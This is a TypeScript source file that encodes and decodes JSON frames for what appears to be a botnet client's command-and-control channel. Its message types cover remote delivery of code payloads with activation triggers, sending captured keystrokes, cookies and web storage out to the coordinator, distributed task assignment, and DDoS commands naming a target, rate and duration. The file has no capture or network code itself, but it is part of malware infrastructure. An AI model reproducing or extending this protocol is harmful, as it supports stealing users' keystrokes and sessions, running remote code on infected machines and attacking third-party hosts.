/**
 * Frame codec: one message per frame, a single JSON text with a "type"
 * discriminator, keys sorted at every level, compact separators. Mirrors
 * the coordinator's codec byte for byte (see docs/wire.md in the repo
 * root); the fixture tests pin that equivalence.
 *
 * Integers ride as JSON numbers, so this client accepts values up to
 * Number.MAX_SAFE_INTEGER and rejects anything larger as InvalidField.
 */

export class FrameError extends Error {}

export class MalformedJson extends FrameError {
  constructor(message: string, readonly offset = 0) {
    super(`${message} (at byte ${offset})`);
  }
}

export class UnknownType extends FrameError {
  constructor(readonly typeName: unknown) {
    super(`unknown frame type ${JSON.stringify(typeName)}`);
  }
}

export class MissingField extends FrameError {
  constructor(readonly fieldName: string) {
    super(`missing field '${fieldName}'`);
  }
}

export class InvalidField extends FrameError {
  constructor(readonly fieldName: string, reason: string) {
    super(`invalid field '${fieldName}': ${reason}`);
  }
}

export type Trigger =
  | { kind: "OnEvent"; token: string }
  | { kind: "AtTick"; tick: number }
  | { kind: "Immediate" };

export interface BlobRef {
  blob: string; // base64 bytes
  seed: number;
}

export interface KeystrokeEvent {
  key: string;
  tick: number;
}

export type Message =
  | { type: "Register"; client_id: string }
  | { type: "PayloadDelivery"; payload_id: string; code: BlobRef; trigger: Trigger }
  | { type: "Activate"; trigger_token: string }
  | { type: "ExfilKeystrokes"; client_id: string; events: KeystrokeEvent[] }
  | {
      type: "ExfilStorage";
      client_id: string;
      cookies: Record<string, string>;
      web_storage: Record<string, string>;
    }
  | { type: "MapAssign"; task_id: number; fn_id: string; chunk: string }
  | { type: "MapResult"; task_id: number; client_id: string; value: Record<string, number> }
  | { type: "DdosCommand"; target: string; rate: number; duration: number }
  | { type: "Terminate" };

export const MAP_FNS = ["WordCount", "SumOfSquares"] as const;

/** JSON with keys sorted at every level and no whitespace: the canonical
 * frame form shared with the coordinator. */
export function canonicalJson(value: unknown): string {
  if (value === null || typeof value === "number" || typeof value === "boolean") {
    return JSON.stringify(value);
  }
  if (typeof value === "string") {
    return JSON.stringify(value);
  }
  if (Array.isArray(value)) {
    return "[" + value.map(canonicalJson).join(",") + "]";
  }
  if (typeof value === "object") {
    const entries = Object.entries(value as Record<string, unknown>)
      .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))
      .map(([k, v]) => JSON.stringify(k) + ":" + canonicalJson(v));
    return "{" + entries.join(",") + "}";
  }
  throw new TypeError(`not encodable: ${String(value)}`);
}

export function encodeFrame(message: Message): string {
  return canonicalJson(message);
}

function getField(obj: Record<string, unknown>, name: string): unknown {
  if (!(name in obj)) throw new MissingField(name);
  return obj[name];
}

function getString(obj: Record<string, unknown>, name: string): string {
  const value = getField(obj, name);
  if (typeof value !== "string") throw new InvalidField(name, `expected string`);
  return value;
}

function getU64(obj: Record<string, unknown>, name: string, minimum = 0): number {
  const value = getField(obj, name);
  if (typeof value !== "number" || !Number.isInteger(value)) {
    throw new InvalidField(name, "expected integer");
  }
  if (value < minimum || value > Number.MAX_SAFE_INTEGER) {
    throw new InvalidField(name, `out of range: ${value}`);
  }
  return value;
}

function getStringMap(obj: Record<string, unknown>, name: string): Record<string, string> {
  const value = getField(obj, name);
  if (typeof value !== "object" || value === null || Array.isArray(value)) {
    throw new InvalidField(name, "expected object");
  }
  for (const [k, v] of Object.entries(value)) {
    if (typeof k !== "string" || typeof v !== "string") {
      throw new InvalidField(name, "expected string keys and values");
    }
  }
  return value as Record<string, string>;
}

export function decodeTrigger(value: unknown): Trigger {
  if (typeof value !== "object" || value === null || Array.isArray(value)) {
    throw new InvalidField("trigger", "expected object");
  }
  const obj = value as Record<string, unknown>;
  const kind = obj.kind;
  if (kind === "OnEvent") {
    const token = obj.token;
    if (typeof token !== "string" || token.length === 0) {
      throw new InvalidField("trigger", "OnEvent token must be a non-empty string");
    }
    return { kind, token };
  }
  if (kind === "AtTick") {
    const tick = obj.tick;
    if (typeof tick !== "number" || !Number.isInteger(tick) || tick < 0) {
      throw new InvalidField("trigger", "AtTick tick must be a non-negative integer");
    }
    return { kind, tick };
  }
  if (kind === "Immediate") return { kind };
  throw new InvalidField("trigger", `unknown trigger kind ${JSON.stringify(kind)}`);
}

export function decodeFrame(text: string): Message {
  let parsed: unknown;
  try {
    parsed = JSON.parse(text);
  } catch (err) {
    const match = /position (\d+)/.exec((err as Error).message);
    throw new MalformedJson("bad JSON", match ? Number(match[1]) : 0);
  }
  if (typeof parsed !== "object" || parsed === null || Array.isArray(parsed)) {
    throw new MissingField("type");
  }
  const obj = parsed as Record<string, unknown>;
  if (!("type" in obj)) throw new MissingField("type");
  const frameType = obj.type;
  if (typeof frameType !== "string") throw new InvalidField("type", "expected string");

  switch (frameType) {
    case "Register":
      return { type: frameType, client_id: getString(obj, "client_id") };
    case "PayloadDelivery": {
      const code = getField(obj, "code");
      if (typeof code !== "object" || code === null) throw new InvalidField("code", "expected object");
      const blob = (code as Record<string, unknown>).blob;
      const seed = (code as Record<string, unknown>).seed;
      if (typeof blob !== "string") throw new InvalidField("code", "blob must be base64 text");
      if (typeof seed !== "number" || !Number.isSafeInteger(seed) || seed < 0) {
        throw new InvalidField("code", "seed out of supported range");
      }
      return {
        type: frameType,
        payload_id: getString(obj, "payload_id"),
        code: { blob, seed },
        trigger: decodeTrigger(getField(obj, "trigger")),
      };
    }
    case "Activate":
      return { type: frameType, trigger_token: getString(obj, "trigger_token") };
    case "ExfilKeystrokes": {
      const raw = getField(obj, "events");
      if (!Array.isArray(raw)) throw new InvalidField("events", "expected array");
      const events = raw.map((item) => {
        if (typeof item !== "object" || item === null) {
          throw new InvalidField("events", "expected array of objects");
        }
        const entry = item as Record<string, unknown>;
        return { key: getString(entry, "key"), tick: getU64(entry, "tick") };
      });
      return { type: frameType, client_id: getString(obj, "client_id"), events };
    }
    case "ExfilStorage":
      return {
        type: frameType,
        client_id: getString(obj, "client_id"),
        cookies: getStringMap(obj, "cookies"),
        web_storage: getStringMap(obj, "web_storage"),
      };
    case "MapAssign": {
      const fnId = getString(obj, "fn_id");
      if (!MAP_FNS.includes(fnId as (typeof MAP_FNS)[number])) {
        throw new InvalidField("fn_id", `expected one of ${MAP_FNS.join(", ")}`);
      }
      return {
        type: frameType,
        task_id: getU64(obj, "task_id"),
        fn_id: fnId,
        chunk: getString(obj, "chunk"),
      };
    }
    case "MapResult": {
      const value = getField(obj, "value");
      if (typeof value !== "object" || value === null || Array.isArray(value)) {
        throw new InvalidField("value", "expected object");
      }
      for (const v of Object.values(value)) {
        if (typeof v !== "number" || !Number.isInteger(v)) {
          throw new InvalidField("value", "expected integer values");
        }
      }
      return {
        type: frameType,
        task_id: getU64(obj, "task_id"),
        client_id: getString(obj, "client_id"),
        value: value as Record<string, number>,
      };
    }
    case "DdosCommand":
      return {
        type: frameType,
        target: getString(obj, "target"),
        rate: getU64(obj, "rate", 1),
        duration: getU64(obj, "duration", 1),
      };
    case "Terminate":
      return { type: frameType };
    default:
      throw new UnknownType(frameType);
  }
}
